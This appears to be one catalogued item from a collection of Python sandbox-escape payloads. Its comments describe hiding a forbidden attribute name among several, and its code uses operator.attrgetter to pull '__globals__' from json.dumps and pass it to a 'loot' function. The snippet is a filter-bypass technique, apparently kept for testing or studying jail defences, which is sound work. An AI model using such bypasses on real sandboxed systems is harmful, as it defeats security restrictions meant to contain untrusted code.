# aim: hide the forbidden name among several
# mechanism: attrgetter takes any number of names
# language: builtins
# reason: every name is checked
# jail: process
# plain: loot

import json
import operator

loot(operator.attrgetter("__name__", "__globals__")(json.dumps))
